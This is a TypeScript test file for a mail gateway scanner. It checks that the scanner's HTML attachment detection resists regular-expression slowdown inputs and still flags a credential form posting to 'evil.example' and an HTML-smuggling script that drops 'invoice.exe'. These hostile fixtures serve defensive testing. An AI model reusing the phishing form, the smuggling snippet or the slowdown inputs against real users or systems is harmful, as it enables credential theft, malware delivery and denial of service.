import { describe, expect, it } from "vitest";
import { attachmentSignals } from "../../../../server/mail/scan/attachments";
import { tokenize } from "../../../../server/mail/scan/index";

// Found hunting past the gateway fuzzer: expressions that rescanned the rest of a hostile page from each match
// attempt, on the thread that answers SMTP. Each input took seconds before (shown), a few ms since.
const page = (html: string) => [
  { filename: "a.html", contentType: "text/html", content: Buffer.from(html, "latin1") },
];

async function elapsed(work: () => unknown): Promise<number> {
  const started = Date.now();
  await work();
  return Date.now() - started;
}

describe("scanning hostile HTML in linear time", () => {
  it("checks an attached page of 40,000 unclosed <form tags (10 s before) and of 40,000 '.download=' (13 s)", async () => {
    expect(await elapsed(() => attachmentSignals(page("<form ".repeat(40_000))))).toBeLessThan(1000);
    expect(
      await elapsed(() => attachmentSignals(page(`<script>${".download=".repeat(40_000)}`))),
    ).toBeLessThan(1000);
    // What the expressions are for still counts.
    const ids = async (html: string) => (await attachmentSignals(page(html))).map((s) => s.id);
    expect(await ids('<form method="post" action="https://evil.example/p"><input name=u></form>')).toEqual([
      "attachment.html_form",
    ]);
    expect(await ids('<script>a.download = "invoice.exe"; a.href = u;</script>')).toEqual([
      "attachment.html_smuggling",
    ]);
  });

  it("tokenizes an HTML-only body of 60,000 '<' with no '>' (3.5 s before)", async () => {
    const time = await elapsed(() => tokenize({ html: `${"<".repeat(60_000)} hello world` }));
    expect(time).toBeLessThan(1000);
    expect(tokenize({ html: "<p>hello <b>world</b></p>" })).toEqual(
      expect.arrayContaining(["hello", "world"]),
    );
  });
});
